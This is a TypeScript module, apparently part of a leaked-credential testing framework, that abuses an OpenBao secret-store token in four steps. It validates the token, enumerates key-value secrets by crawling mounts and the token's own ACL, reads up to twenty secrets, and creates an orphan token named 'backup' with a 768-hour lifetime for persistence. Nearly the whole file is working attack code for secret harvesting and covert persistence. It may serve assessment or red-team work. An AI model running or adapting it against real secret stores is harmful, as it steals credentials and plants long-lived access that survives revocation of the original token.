/** With a token of the secret store. https://openbao.org/api-docs/ */
import { STORE_ORIGIN } from "../services/store/host.ts";
import type { Attempt, Use } from "./use.ts";

/** So many secrets are read, and folders looked into. */
const MOST = 20;

type Fields = Readonly<Record<string, unknown>>;

export const useStore: Use = {
  async validate(attempt) {
    const said = await ask(attempt, "GET", "auth/token/lookup-self");
    if (!said) return null;
    const policies = Array.isArray(said["policies"]) ? said["policies"].map(String) : [];
    return `it has the policies ${policies.join(", ") || "of nobody"}`;
  },

  async enumerate(attempt) {
    const names = await secrets(attempt);
    return names.length > 0 ? `it sees the secrets ${names.map(({ path }) => path).join(", ")}` : null;
  },

  async read(attempt) {
    const seen: string[] = [];
    for (const { mount, path, versioned } of await secrets(attempt))
      if (await ask(attempt, "GET", `${mount}${versioned ? "data/" : ""}${path}`)) seen.push(path);
    return seen.length > 0 ? `it read ${seen.join(", ")}` : null;
  },

  /** A token that has no parent outlives the one that made it; a child does not. */
  async persist(attempt) {
    const wanted = { display_name: "backup", ttl: "768h" };
    if (await ask(attempt, "POST", "auth/token/create-orphan", wanted))
      return "it made a token without a parent";
    return (await ask(attempt, "POST", "auth/token/create", wanted)) ? "it made another token" : null;
  },
};

interface Place {
  /** With the slash at its end. */
  readonly mount: string;
  readonly path: string;
  readonly versioned: boolean;
}

/** What can be listed, and what the token's own rights name. */
async function secrets(attempt: Attempt): Promise<Place[]> {
  const found: Place[] = [];
  for (const { mount, versioned } of await mounts(attempt)) {
    const folders = [""];
    for (let i = 0; i < folders.length && i < MOST; i++) {
      const folder = folders[i] as string;
      const listed = await ask(attempt, "LIST", `${mount}${versioned ? "metadata/" : ""}${folder}`);
      for (const key of keysOf(listed)) {
        if (key.endsWith("/")) folders.push(folder + key);
        else found.push({ mount, path: folder + key, versioned });
      }
    }
  }
  const known = new Set(found.map(({ mount, path }) => mount + path));
  const named = (await granted(attempt)).filter(({ mount, path }) => !known.has(mount + path));
  return [...found, ...named].slice(0, MOST);
}

/** Where secrets are kept, as far as the token may see it; else where they usually are. */
async function mounts(attempt: Attempt): Promise<Pick<Place, "mount" | "versioned">[]> {
  const said = await ask(attempt, "GET", "sys/mounts");
  const kept = Object.entries(said ?? {}).flatMap(([mount, about]) => {
    const { type, options } = (about ?? {}) as { type?: unknown; options?: { version?: unknown } | null };
    return type === "kv" ? [{ mount, versioned: String(options?.version) === "2" }] : [];
  });
  return kept.length > 0 ? kept : [{ mount: "secret/", versioned: true }];
}

/** Paths that a policy names: every token may ask what it may do. */
async function granted(attempt: Attempt): Promise<Place[]> {
  const said = await ask(attempt, "GET", "sys/internal/ui/resultant-acl");
  return Object.keys((said?.["exact_paths"] as Fields | undefined) ?? {}).flatMap((path) => {
    const [, mount, rest] = /^([^/]+\/)data\/(.+)$/.exec(path) ?? [];
    return mount === undefined || rest === undefined ? [] : [{ mount, path: rest, versioned: true }];
  });
}

function keysOf(said: Fields | null): string[] {
  return Array.isArray(said?.["keys"]) ? said["keys"].map(String) : [];
}

/** The data of an answer; null where it was refused. */
async function ask(
  { ports, credential, address }: Attempt,
  method: string,
  path: string,
  body?: Fields,
): Promise<Fields | null> {
  const headers = { "X-Vault-Token": credential.value, "Content-Type": "application/json" };
  const request = new Request(`${STORE_ORIGIN}/v1/${path}`, {
    method,
    headers,
    ...(body ? { body: JSON.stringify(body) } : {}),
  });
  const response = await ports.network.fetch(request, { address, session: null });
  const text = await response.text();
  if (!response.ok) return null;
  const said = parse(text);
  return (said["data"] as Fields | null) ?? (said["auth"] as Fields | null) ?? said;
}

function parse(text: string): Fields {
  try {
    const value = JSON.parse(text) as unknown;
    return value !== null && typeof value === "object" ? (value as Fields) : {};
  } catch {
    return {};
  }
}
